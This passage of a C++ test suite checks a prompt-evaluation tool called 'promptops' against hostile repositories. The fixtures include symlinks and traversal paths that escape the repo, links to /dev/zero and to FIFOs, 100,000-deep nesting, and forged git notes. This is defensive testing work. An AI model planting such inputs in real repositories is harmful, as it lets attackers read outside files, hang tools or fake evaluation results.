    target.prompt = "inner";  // textconv reads greet: a path the user types outside is theirs to read
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
  SECTION(".promptops.toml itself a link to a file outside") {
    world.link(".promptops.toml", outside + "/config.toml");
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("config from elsewhere");
    world.clone();
    target.refuse = {"eval", "eval HEAD"};
    target.hook_blocks = true;
    run_every_reader(world, target);
  }
  SECTION("a dataset that is a link to a file outside") {
    world.link("evals/greet.jsonl", outside + "/cases.jsonl");
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("cases from elsewhere");
    world.clone();
    target.refuse = {"eval", "eval HEAD", "compare", "bisect"};
    target.block = {"check"};
    target.hook_blocks = true;
    run_every_reader(world, target);
  }
  // Section names must not change between runs of the test case: the absolute path does.
  const std::map<std::string, std::string> escapes = {{"relative", "../outside/cases.jsonl"},
                                                      {"absolute", outside + "/cases.jsonl"},
                                                      {"through a directory", "evals/../../outside/cases.jsonl"}};
  for (const auto& [how, path] : escapes) {
    DYNAMIC_SECTION("a dataset path that escapes the repository: " << how) {
      const std::string eval = "dataset = \"" + path + "\"\nmetric = \"accuracy\"\n";
      world.write("prompts/greet.toml", greet("Hey {{who}}!!", eval));
      world.commit("cases by path");
      world.clone();
      target.refuse = {"eval", "eval HEAD", "compare", "bisect"};
      target.block = {"check"};
      target.hook_blocks = true;
      target.greet_eval = eval;
      run_every_reader(world, target);
    }
  }
  SECTION("a prompt and a dataset that are links to /dev/zero") {
    world.link("prompts/zero.toml", "/dev/zero");
    world.link("evals/zero.jsonl", "/dev/zero");
    const std::string eval = "dataset = \"evals/zero.jsonl\"\nmetric = \"accuracy\"\n";
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", eval));
    world.commit("read forever");
    world.clone();
    target.prompt = "zero";
    target.file = "prompts/zero.toml";
    target.refuse = {"show", "render", "eval"};
    target.hook_blocks = true;
    target.greet_eval = eval;
    run_every_reader(world, target);
    // greet's dataset is /dev/zero: an evaluation of greet must stop too.
    expect_greet_evaluations_stop(world);
  }
  SECTION("a prompt and a dataset that are links to a FIFO outside (never opened)") {
    world.link("prompts/fifo.toml", outside + "/fifo");
    world.link("evals/fifo.jsonl", outside + "/fifo");
    const std::string eval = "dataset = \"evals/fifo.jsonl\"\nmetric = \"accuracy\"\n";
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", eval));
    world.commit("wait forever");
    world.clone();
    target.prompt = "fifo";
    target.file = "prompts/fifo.toml";
    target.refuse = {"show", "render", "eval"};
    target.hook_blocks = true;
    target.greet_eval = eval;
    run_every_reader(world, target);
    expect_greet_evaluations_stop(world);
  }
  SECTION("links that loop: to themselves, to each other, and directories that contain themselves") {
    world.link("prompts/self.toml", "self.toml");
    world.link("prompts/ping.toml", "pong.toml");
    world.link("prompts/pong.toml", "ping.toml");
    world.link("prompts/maze/left", ".");
    world.link("prompts/maze/right", ".");
    world.link("prompts/maze/up", "../..");
    world.write("prompts/maze/room.toml", greet("Hey {{who}}!!"));
    world.commit("a maze");
    world.clone();
    target.prompt = "self";
    target.file = "prompts/self.toml";
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
}

TEST_CASE("a hostile repository cannot exhaust the stack with nesting", "[e2e][hostile]") {
  HostileWorld world;
  Target target;
  target.prompt = "deep";
  target.file = "prompts/deep.toml";

  SECTION("Mustache sections nested 100,000 deep") {
    // `no` is empty, so every inverted section renders its content: rendering goes all the way down.
    world.write("prompts/deep.toml", "template = \"\"\"" + deep("{{^no}}", "{{/no}}", 100000) +
                                         "{{who}}\"\"\"\n\n[vars]\nno = \"\"\n\n[eval]\n" + k_greet_eval);
    world.commit("deep sections");
    world.clone();
    target.refuse = {"render", "eval"};
    run_every_reader(world, target);
  }
  SECTION("a dataset case nested 100,000 deep") {
    world.write("evals/greet.jsonl", greet_cases(k_names) + "{\"id\": \"deep\", \"vars\": {\"who\": " +
                                         deep("[", "]", 100000) + "}, \"expected\": \"ok\"}\n");
    world.write("prompts/deep.toml", greet("Hey {{who}}!!"));
    world.commit("a deep case");
    world.clone();
    target.refuse = {"eval"};
    run_every_reader(world, target);
  }
  SECTION("an assertion nested 100,000 deep in a dataset case") {
    world.write("evals/greet.jsonl", greet_cases(k_names) +
                                         "{\"id\": \"deep\", \"vars\": {\"who\": \"Ann\"}, \"assert\": [{\"type\": "
                                         "\"equals\", \"value\": " +
                                         deep("{\"a\":", "}", 100000).replace(100000 * 5, 0, "1") + "}]}\n");
    world.write("prompts/deep.toml", greet("Hey {{who}}!!"));
    world.commit("a deep assertion");
    world.clone();
    target.refuse = {"eval"};
    run_every_reader(world, target);
  }
  SECTION("TOML arrays nested 100,000 deep") {
    world.write("prompts/deep.toml", "tags = " + deep("[", "]", 100000) + "\n" + greet("Hey {{who}}!!"));
    world.commit("deep arrays");
    world.clone();
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
}

// --- notes ----------------------------------------------------------------------------------------

namespace {

// An origin whose greet regresses at HEAD ("Hey" right for all eight names at HEAD~1, "Yo" for
// two), and whose notes were made while the server answered "ok" to everything: they claim
// accuracy 1.0 for both commits, under the very eval keys the clone computes.
struct ForgedNotes {
  HostileWorld world;
  std::string bad;

  ForgedNotes() {
    world.write("prompts/greet.toml", greet("Yo {{who}}!"));
    bad = world.commit("greet: say yo");
    world.server.set_responder([](const nlohmann::json&) { return std::string("ok"); });
    for (const std::string rev : {"HEAD~1", "HEAD"}) {
      const RunResult r = run_promptops(world.origin.path(), {"eval", rev, "--", "greet"});
      INFO("forging the notes: " << r.err);
      REQUIRE(r.exit_code == 0);
    }
    world.server.set_rules(gate_rules());
    world.server.reset_counters();
  }

  void clone_with_notes() const {
    world.clone();
    world.clone_git({"fetch", "-q", "origin", "refs/notes/*:refs/notes/*"});
  }
};

}  // namespace

TEST_CASE("forged notes do not pass a regression when the user does not trust notes", "[e2e][hostile]") {
  ForgedNotes forged;
  forged.clone_with_notes();
  forged.world.clone_git({"config", "promptops.trustNotes", "false"});

  const Outcome check = forged.world.promptops({"check", "HEAD"});
  expect_bounded(check);
  expect_no_leak(forged.world, check);
  INFO(check.out << check.err);
  CHECK(check.exit_code == 1);                        // the real figures: 1.000 -> 0.250
  CHECK(forged.world.server.seen().size() > 0);       // which only the model can give

  const Outcome review = forged.world.promptops({"review", "HEAD~1..HEAD", "--format", "json"});
  expect_bounded(review);
  INFO(review.out);
  const nlohmann::json doc = nlohmann::json::parse(review.out, nullptr, false);
  REQUIRE_FALSE(doc.is_discarded());
  CHECK(doc.value("passed", true) == false);
}

TEST_CASE("malformed note lines are skipped with one warning that names the commit", "[e2e][hostile]") {
  ForgedNotes forged;
  HostileWorld& world = forged.world;
  const std::string note = world.origin.git({"notes", "--ref=promptops", "show", forged.bad});
  world.write("note.txt", note + "this is not json\n{\"key\": \"eval:greet:\n" +
                              "{\"key\": " + deep("[", "]", 100000) + "}\n" +
                              "{\"key\": \"eval:greet:0000\", \"value\": \"" + std::string(1 << 20, 'x') + "\"}\n" +
                              "[1, 2, 3]\nnull\n{\"key\": 7, \"value\": {\"accuracy\": \"high\"}}\n");
  world.origin.git({"notes", "--ref=promptops", "add", "-f", "-F", (world.origin.path() / "note.txt").string(),
                    forged.bad});
  world.origin.remove("note.txt");
  forged.clone_with_notes();

  const Outcome log = world.promptops({"log", "greet"});
  expect_bounded(log, 2);
  CHECK(log.exit_code == 0);
  CHECK(contains(log.out, short_sha(forged.bad)));
  {
    INFO(log.err);
    CHECK_FALSE(lines_of(log.err).empty());  // one warning (and perhaps its hint)
    CHECK(contains(log.err, short_sha(forged.bad)));
  }
  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"check", "HEAD"}, std::vector<std::string>{"review", "HEAD~1..HEAD"},
        std::vector<std::string>{"compare", "HEAD~1", "HEAD"},
        std::vector<std::string>{"bisect", "greet", "--good", "HEAD~1"},
        std::vector<std::string>{"eval", "HEAD~1..HEAD", "--", "greet"}}) {
    const Outcome o = world.promptops(args);
    expect_bounded(o, 3);
    expect_no_leak(world, o);
  }
}
